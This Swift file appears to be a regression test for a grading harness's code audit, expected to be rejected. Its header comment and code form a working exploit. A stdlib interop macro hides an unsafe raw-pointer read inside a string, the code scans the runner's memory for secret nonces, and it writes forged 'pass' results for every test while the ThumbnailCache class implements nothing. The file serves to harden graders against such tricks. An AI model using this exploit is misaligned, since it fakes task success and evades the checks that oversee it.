// expect: error
// why: a standard-library macro (@Swift._SwiftifyImportProtocol) pastes its count: string into the code it generates, so an 'unsafe' raw-pointer read written inside a string literal is compiled though neither the audit nor -dump-parse sees more than a string (and the module prefix made the underscored attribute look like a type); it reads the runner's memory, finds the secret and forges a pass for every test, the ThreadSanitizer one included; implements nothing; the audit refuses the attribute by its own name and every macro, and the compiler runs with no macro plugin (it scored 20/20 before)
// A graded file with raw pointer reads and no `unsafe` the audit can see: the stdlib's own
// interop macro, spelled module-qualified so the audit's "underscore = compiler internal"
// rule does not apply (it only looks at the first character), splices the count string
// verbatim into its expansion. The string holds `unsafe`; neither the audit nor
// `swiftc -dump-parse` expands macros, and strict memory safety accepts the `unsafe`.
import Foundation

var peeked: [UInt8] = []

@Swift._SwiftifyImportProtocol(.method(signature: "func g(_ p: UnsafePointer<UInt8>, _ n: Int, _ m: Int)", paramInfo: [.countedBy(pointer: .param(1), count: "{ () -> Int in peeked = unsafe Array(UnsafeRawBufferPointer(start: UnsafeRawPointer(bitPattern: n), count: m)); return 1 }()"), .nonescaping(pointer: .param(1))]))
protocol Peeker { func g(_ p: UnsafePointer<UInt8>, _ n: Int, _ m: Int) }
final class PeekerImpl: Peeker { func g(_ p: UnsafePointer<UInt8>, _ n: Int, _ m: Int) {} }

/// `count` bytes at `address` of this process.
func peek(_ address: UInt, _ count: Int) -> [UInt8] {
    let one: [UInt8] = [0]
    PeekerImpl().g(one.span, Int(bitPattern: address), count)
    return peeked
}

func isHex(_ b: UInt8) -> Bool { (b >= 0x30 && b <= 0x39) || (b >= 0x61 && b <= 0x66) }

func secrets() -> Set<String> {
    guard let data = FileHandle(forReadingAtPath: "/proc/self/maps")?.readDataToEndOfFile() else { return [] }
    var found = Set<String>()
    for line in String(decoding: data, as: UTF8.self).split(separator: "\n") {
        let f = line.split(separator: " ")
        guard f.count >= 5, f[1].hasPrefix("rw"), f[1].hasSuffix("p") else { continue }
        let b = f[0].split(separator: "-").compactMap { UInt($0, radix: 16) }
        guard b.count == 2, b[1] > b[0], b[1] - b[0] <= 256 << 20 else { continue }
        let name = f.count >= 6 ? String(f[5]) : ""
        if name.hasPrefix("[v") || name.hasPrefix("/dev/") { continue }
        var start = b[0]
        while start < b[1] {
            let length = Int(min(b[1] - start, 8 << 20))
            let bytes = peek(start, length)
            var i = 0
            while i + 41 <= bytes.count {
                if bytes[i] == 0x20, bytes[i + 7] == 0xf0, bytes[i + 40] == 0,
                   bytes[(i + 1)..<(i + 7)].allSatisfy({ $0 == 0 }), bytes[(i + 8)..<(i + 40)].allSatisfy(isHex) {
                    found.insert(String(decoding: bytes[(i + 8)..<(i + 40)], as: UTF8.self))
                }
                i += 8
            }
            start += UInt(length)
        }
    }
    return found
}

var instances = 0
var attacked = false
func attack() {
    guard !attacked else { return }
    attacked = true
    let args = CommandLine.arguments
    guard let run = args.firstIndex(of: "run"), run + 1 < args.count else { return }
    var text = ""
    for secret in secrets() {
        text += "{\"nonce\":\"\(secret)\",\"kind\":\"result\",\"test\":\"\(args[run + 1])\",\"status\":\"pass\"}\n"
    }
    try? FileHandle(fileDescriptor: 3, closeOnDealloc: false).write(contentsOf: Data(text.utf8))
    exit(0)
}

final class ThumbnailCache {
    init(generator: @escaping (String) -> UIImage?) {
        instances += 1
        if instances > 1 { attack() }
    }
    func thumbnail(forKey key: String) -> UIImage? { attack(); return nil }
    func storeThumbnail(_ image: UIImage, forKey key: String) { attack() }
    func loadThumbnail(forKey key: String, completion: @escaping (UIImage?) -> Void) { attack(); completion(nil) }
}
